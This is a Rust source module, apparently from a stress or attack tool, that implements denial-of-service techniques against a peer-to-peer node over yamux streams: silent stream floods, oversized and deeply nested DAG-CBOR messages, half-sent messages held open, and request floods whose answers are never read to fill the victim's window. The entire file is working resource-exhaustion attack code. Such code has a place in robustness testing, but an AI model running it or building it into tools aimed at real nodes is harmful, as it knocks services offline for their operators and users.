//! Streams that say nothing, too much, half of it, or the same thing inside itself.

use std::{io, sync::Arc, time::Duration};

use futures::AsyncWriteExt as _;
use tokio::time::{sleep, timeout};

use super::{HELLO, PROTOCOLS, questions, session};
use crate::{
    Target,
    client::{Session, until_ended},
    tally::Tally,
};

/// What is sent at once.
const CHUNK: usize = 64 * 1024;

/// Far beyond the limit of every message, which is 4 MiB.
const OVERSIZE_BYTES: usize = 64 << 20;

/// As deep as it fits into 4 MiB: each array takes a byte.
const DEPTH: usize = (4 << 20) - 64;

/// Streams that one connection holds.
const HELD_MAX: usize = 2_000;

/// How long a half message is held.
const HOLD: Duration = Duration::from_secs(15);

/// Streams of one connection on which questions are asked.
const ASKING_MAX: usize = 96;

/// How long a victim may take no bytes. Whoever reads no further leaves the attacker with a full window.
const STALL: Duration = Duration::from_millis(300);

/// Opens streams as long as the connection lasts, and says nothing on them.
pub(super) async fn silent(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let session = session(target, number, &PROTOCOLS, tally).await?;
    let mut held = Vec::new();
    for turn in 0.. {
        let stream = if turn % 2 == 0 {
            session.bare().await
        } else {
            session.stream(PROTOCOLS[turn / 2 % PROTOCOLS.len()]).await
        };
        tally.opened();
        match stream {
            Ok(stream) if held.len() < HELD_MAX => held.push(stream),
            Ok(_) => held.clear(),
            Err(_) if session.is_over() => break,
            Err(_) => tally.ended(),
        }
    }
    Ok(())
}

/// Sends messages that have no end, one protocol after the other.
pub(super) async fn oversize(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    // A byte string of 4 GiB, as DAG-CBOR and as a length before a message would say it.
    let mut first = vec![0x5a, 0xff, 0xff, 0xff, 0xff];
    first.resize(CHUNK, 0x41);
    send_all(target, number, &first, OVERSIZE_BYTES, tally).await
}

/// Sends arrays in arrays in arrays.
pub(super) async fn nested(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    send_all(target, number, &vec![0x81; CHUNK], DEPTH, tally).await
}

async fn send_all(
    target: &Target,
    number: usize,
    chunk: &[u8],
    bytes: usize,
    tally: &Arc<Tally>,
) -> io::Result<()> {
    let session = session(target, number, &PROTOCOLS, tally).await?;
    for protocol in PROTOCOLS {
        let Ok(mut stream) = session.stream(protocol).await else {
            tally.ended();
            continue;
        };
        tally.opened();
        for _ in 0..bytes / chunk.len() {
            match timeout(STALL, stream.write_all(chunk)).await {
                Ok(Ok(())) => tally.sent(chunk.len()),
                _ => {
                    tally.ended();
                    break;
                }
            }
        }
        timeout(STALL, stream.close()).await.ok();
        timeout(STALL, until_ended(stream)).await.ok();
    }
    Ok(())
}

/// Begins a message on as many streams as there may be, and holds on.
pub(super) async fn half(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let session = session(target, number, &PROTOCOLS, tally).await?;
    let mut held = Vec::new();
    for turn in 0..HELD_MAX {
        match begin(&session, PROTOCOLS[turn % PROTOCOLS.len()], tally).await {
            Ok(stream) => held.push(stream),
            Err(_) => {
                tally.ended();
                break;
            }
        }
    }
    // New ones come when these are let go.
    sleep(HOLD).await;
    Ok(())
}

/// Asks on many streams without end, and reads no answer.
pub(super) async fn unread(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let session = session(target, number, &PROTOCOLS, tally).await?;
    let session = &session;
    let ask = async |_| {
        let Ok(mut stream) = session.bare().await else { return };
        tally.opened();
        let (mut asked, questions) = (HELLO, questions());
        while let Ok(Ok(())) = timeout(STALL, stream.write_all(asked)).await {
            tally.sent(asked.len());
            asked = &questions;
        }
        // The window is full, or the victim ended it. A stream that is dropped would give back what it holds.
        sleep(HOLD).await;
        tally.ended();
    };
    futures::future::join_all((0..ASKING_MAX).map(ask)).await;
    Ok(())
}

async fn begin(session: &Session, protocol: &str, tally: &Arc<Tally>) -> io::Result<yamux::Stream> {
    let mut stream = session.stream(protocol).await?;
    tally.opened();
    // A map of one entry, whose value is a byte string of 60,000 bytes; half of it.
    let mut bytes = b"\xa1\x61a\x59\xea\x60".to_vec();
    bytes.resize(30_000, 0x42);
    timeout(STALL, stream.write_all(&bytes)).await??;
    timeout(STALL, stream.flush()).await??;
    tally.sent(bytes.len());
    Ok(stream)
}
